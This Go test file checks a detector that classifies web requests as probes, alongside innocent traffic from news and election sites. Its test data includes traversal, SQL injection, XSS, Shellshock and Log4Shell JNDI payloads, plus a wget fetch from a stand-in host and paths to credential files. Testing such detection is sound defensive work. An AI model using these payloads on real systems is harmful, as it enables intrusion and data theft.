package probe_test

import (
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/unveil-project/unveil/internal/detect/probe"
)

func TestHostileTexts(t *testing.T) {
	for _, c := range []struct {
		where, text string
		want        probe.Family
	}{
		{"path", "/../../../etc/passwd", probe.Traversal},
		{"path", "/%252E%252E%252Ffoo", probe.Traversal},
		{"path", "/%2Fetc%2Fpasswd", probe.Traversal},
		{"path", "/..%c0%af..%c0%afwindows/win.ini", probe.Traversal},
		{"path", `/..\..\..\boot.ini`, probe.Traversal},
		{"query", "file=..%2f..%2f..%2fproc%2fself%2fenviron", probe.Traversal},
		{"query", "page=php://filter/convert.base64-encode/resource=index", probe.Traversal},
		{"query", "id=1%20union%20all%20select%201,2,3", probe.SQLInjection},
		{"query", "id=1/**/UNION/**/SELECT/**/user,password/**/FROM/**/users", probe.SQLInjection},
		{"query", "id=1'%20or%20'1'='1", probe.SQLInjection},
		{"query", "id=1+AND+SLEEP(5)", probe.SQLInjection},
		{"query", "a=information_schema.tables", probe.SQLInjection},
		{"query", "x=%3Cscript%3Ealert(1)%3C/script%3E", probe.CrossSiteScripting},
		{"query", "x=%253Cscript%253Ealert(1)", probe.CrossSiteScripting},
		{"query", "x=\\x22><img src=x onerror=alert(1)>", probe.CrossSiteScripting},
		{"query", "cmd=;wget+http://192.0.2.1/a.sh", probe.CommandInjection},
		{"path", "/cgi-bin/test;${IFS}id", probe.CommandInjection},
		{"agent", "() { :; }; /bin/bash -c 'id'", probe.CommandInjection},
		{"agent", "() { ignored; }; echo", probe.KnownVulnerability},
		{"agent", "${jndi:ldap://192.0.2.1/a}", probe.ExpressionInjection},
		{"query", "q=${${lower:j}ndi:ldap://192.0.2.1/a}", probe.ExpressionInjection},
		{"query", "q=%24%7Bscript%3Ajavascript%3A1%7D", probe.ExpressionInjection},
		{"query", "name={{7*7}}", probe.ExpressionInjection},
		{"query", "class.module.classLoader.resources=x", probe.ExpressionInjection},
		{"path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", probe.KnownVulnerability},
		{"path", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", probe.KnownVulnerability},
		{"path", "/setup.cgi", probe.KnownVulnerability},
		{"path", "/GponForm/diag_Form", probe.KnownVulnerability},
		{"query", "%ADd+allow_url_include%3d1", probe.KnownVulnerability},
		{"query", `s=/index/\think\app/invokefunction&function=call_user_func_array`, probe.KnownVulnerability},
		{"path", "/php/ztp_gate.php/.js.map", probe.KnownVulnerability},
		{"path", "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", probe.KnownVulnerability},
		{"path", "/%24%7B%28%23a%3D%40org.apache.commons%29%7D/", probe.ExpressionInjection},
		{"path", "/c99.php", probe.WebShell},
		{"path", "/uploads/wso.php", probe.WebShell},
		{"path", "/.env", probe.SensitiveFile},
		{"path", "/.git/config", probe.SensitiveFile},
		{"path", "/app/.aws/credentials", probe.SensitiveFile},
		{"path", "/wp-config.php.bak", probe.SensitiveFile},
		{"path", "/backup/site.sql.gz", probe.SensitiveFile},
		{"path", "/phpMyAdmin/index.php", probe.AdminInterface},
		{"path", "/+CSCOE+/logon.html", probe.AdminInterface},
		{"path", "/wp-includes/wlwmanifest.xml", probe.WordPressScan},
		{"query", "author=3", probe.UserEnumeration},
		{"agent", "Mozilla/5.00 (Nikto/2.1.5) (Test:map_codes)", probe.ScannerAgent},
		{"agent", "sqlmap/1.5 (http://sqlmap.org)", probe.ScannerAgent},
		{"agent", "Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)", probe.UnwantedAgent},
	} {
		strong, absent, weak := probe.Read(c.text, c.where)
		if !(strong | absent | weak).Has(c.want) {
			t.Errorf("%s %q shows %v, want %v", c.where, c.text, (strong | absent | weak).All(), c.want)
		}
	}
}

// TestInnocentTexts holds that what visitors of news and election sites ask
// for is no probe: not even one that wants others beside it.
func TestInnocentTexts(t *testing.T) {
	for where, texts := range map[string][]string{
		"path": {
			"/", "/index.html", "/noticias/2018/06/12/segundo-debate-presidencial.html", "/elecciones/resultados/estado/oaxaca",
			"/select/union-de-ejidos", "/scripts/app.min.js", "/descripcion/etcetera", "/uniones/seleccion-nacional", "/.well-known/acme-challenge/Zx8",
			"/.well-known/security.txt", "/politica/passwords-seguros", "/wp-content/uploads", "/envio/.html", "/a.b/c..d/e", "/sala-de-prensa/boletin..2018",
			"/candidatos/jos%C3%A9-antonio", "/a%C3%B1o/2018/espa%C3%B1ol", "/casillas/0123/ubicaci%C3%B3n", "/robots.txt", "/favicon.ico", "/sitemap.xml",
			"/img/{{item.image}}", "/video/sleep-well.mp4", "/registro/shell-petroleum", "/api/v2/resultados", "/gitlab/proyecto", "/envivo", "/about/", "/administracion-publica/",
			"/descargas/programa.exe", "/tags/cmd", "/productos/cat/etc", "/foro/hello-world", "/opinion/la-guerra-del-passwd", "/gobierno/%e2%80%9creforma%e2%80%9d",
		},
		"query": {
			"q=select+union+de+credito", "q=western+union+seleccionar", "q=uni%C3%B3n+europea", "s=script+de+la+pel%C3%ADcula", "buscar=descarga+de+scripts",
			"utm_source=twitter&utm_medium=social&utm_campaign=debate_2018", "fbclid=IwAR0aBcD_eF-123", "q=l%C3%B3pez+obrador+%22tercer+debate%22+2018", "page=2&sort=desc",
			"fecha=2018-07-01&estado=CDMX", "q=hora+de+dormir+sleep", "q=1%3D1", "id=5&from=portada", "redirect=https%3A%2F%2Fexample.org%2Fnoticias%3Fid%3D5",
			"q=drop+the+table", "q=cu%C3%A1nto+es+100%25+de+20", "q=d%27alessio+y+o%27higgins", "q=casa+or+hogar", "callback=jQuery1234_5678&_=1530412345678",
			"q=insertar+en+tabla", "url=https://example.org/a/b", "u=%2Fnoticias%2F", "lat=19.43&lon=-99.13", "v=1.2.3", "q=concat+video", "text=a+%3C+b", "q=and+1+more",
			"q=c%2B%2B+programa", "filtro[estado]=09&filtro[tipo]=senado", "q=how+to+order+by+phone", "titulo=El+alerta+sismica", "q=curl+rizado+pelo", "q=prompt+payment",
		},
		"agent": {
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/67.0.3396.87 Safari/537.36",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/11.0 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Linux; Android 8.0.0; SM-G950F Build/R16NW) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.158 Mobile Safari/537.36",
			"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
			"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "WhatsApp/2.18.142 A", "curl/7.58.0", "python-requests/2.18.4", "",
			"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", "Opera/9.80 (Android; Opera Mini/32.0.2254/85. U; es) Presto/2.12.423 Version/12.16",
		},
		"referer": {
			"https://www.google.com/search?q=union+select", "https://t.co/AbCdEf", "https://example.org/noticias?tag=%23debate", "android-app://com.google.android.gm",
			"https://www.facebook.com/l.php?u=http%3A%2F%2Fexample.org%2F%3Ffbclid%3D1&h=AT0", "https://example.org/buscar?q=%3Cb%3E",
		},
	} {
		for _, text := range texts {
			strong, absent, weak := probe.Read(text, where)
			if set := strong | absent | weak; set&^ordinarilyWeak(weak) != 0 {
				t.Errorf("%s %q shows %v", where, text, set.All())
			}
		}
	}
}

// ordinarilyWeak is what innocent texts may show of what needs two more of
// its kind: a word of SQL in a search, say.
func ordinarilyWeak(weak probe.Set) probe.Set {
	return weak & (1<<probe.SQLInjection | 1<<probe.CommandInjection)
}

func TestPlainForms(t *testing.T) {
	for _, c := range []struct{ where, text, want string }{
		{"path", "/a/b", "/a/b"},
		{"path", "/%2e%2e/%252e%252e/", "/../../"},
		{"path", "/%c0%ae%c0%ae/%c1%9c", "/../\\"},
		{"path", "/%u002e%uff0e", "/.\x0e"},
		{"path", `/a\b`, "/a/b"},
		{"path", "/a+b", "/a+b"},
		{"query", "a+b%20%09c", "a b c"},
		{"query", "a/*x*/b", "a b"},
		{"query", "a/*x", "a/*x"},
		{"query", `a\x22b`, `a"b`},
		{"query", "100%", "100%"},
		{"query", "%", "%"},
		{"query", "%2", "%2"},
		{"query", "%zz", "%zz"},
	} {
		got := probe.Plain(c.text, c.where)
		want := strings.ReplaceAll(strings.ReplaceAll(c.want, "\\", "/"), "\x0e", " ")
		if got != want {
			t.Errorf("%s %q is %q, want %q", c.where, c.text, got, want)
		}
	}
}

// TestAutomaton compares with looking for every word by itself.
func TestAutomaton(t *testing.T) {
	words := []string{"he", "she", "his", "hers", "e", "/etc", "\xadd "}
	for _, text := range []string{"ushers", "HERS", "she sells", "/ETC/he", "", "xyz", "hhee", "\xadd e"} {
		var want []string
		lower := strings.Map(func(r rune) rune {
			if r >= 'A' && r <= 'Z' {
				return r + 32
			}
			return r
		}, text)
		if strings.Contains(text, "\xad") {
			lower = text
		}
		for end := range len(lower) + 1 {
			for _, w := range words {
				if strings.HasSuffix(lower[:end], w) {
					want = append(want, w)
				}
			}
		}
		got := probe.Words(words, text)
		slices.Sort(got)
		slices.Sort(want)
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%q: -want +got\n%s", text, d)
		}
	}
}

func TestShapes(t *testing.T) {
	for path, want := range map[string]bool{
		"/x9KqT2mZ": true, "/a8f3c91d77": true, "/QWRTPSDF": true, "/kdjfhgkx": true, "/noticias": false, "/2018": false, "/20180612": false,
		"/segundo-debate": false, "/index.html": false, "/propuestas": false, "/resultados2018": false, "/": false, "": false,
	} {
		if got := probe.OneOff(path); got != want {
			t.Errorf("OneOff(%q) is %v", path, got)
		}
	}
	for query, want := range map[string]bool{
		"8890121518": true, "r=0.8231297": true, "_=1530412345678": true, "a9f3c2d18b7e": true, "x=9f8e7d6c5b4a": true,
		"page=2": false, "id=123456": false, "q=debate": false, "utm_source=x&y=1": false, "": false, "v=12345": false,
	} {
		if got := probe.Busting(query); got != want {
			t.Errorf("Busting(%q) is %v", query, got)
		}
	}
	// By hand: four letters alike have none; four different ones two bits; two
	// and two one bit.
	for text, want := range map[string]float64{"aaaa": 0, "abcd": 2, "aabb": 1} {
		if got := probe.Entropy(text); math.Abs(got-want) > 1e-12 {
			t.Errorf("entropy of %q is %g, want %g", text, got, want)
		}
	}
}

// TestBucket: by hand. One leaks out in ten seconds.
func TestBucket(t *testing.T) {
	got := probe.Levels(10e6, []int64{1e6, 1e6, 6e6, 26e6, 900e6})
	if d := cmp.Diff([]float64{1, 2, 2.5, 1.5, 1}, got); d != "" {
		t.Errorf("-want +got\n%s", d)
	}
}

func FuzzClassify(f *testing.F) {
	for _, s := range []string{"/%2e%2e/%252e", "a=/**/1' or '1'='1", "${jndi:", "\\x22%u002e%c0", "/.env", "%", "\xff\xad"} {
		f.Add(s)
	}
	read := probe.Reader()
	f.Fuzz(func(t *testing.T, s string) {
		for _, where := range []string{"path", "query", "agent", "referer"} {
			first := read(s, where)
			if second := read(s, where); first != second {
				t.Errorf("%s %q shows %v, then %v", where, s, first.All(), second.All())
			}
			// A text does not grow by being made plain, and what is plain stays
			// so but for what only more rounds would undo.
			if plain := probe.Plain(s, where); len(plain) > len(s) {
				t.Errorf("%s %q becomes longer: %q", where, s, plain)
			}
		}
	})
}
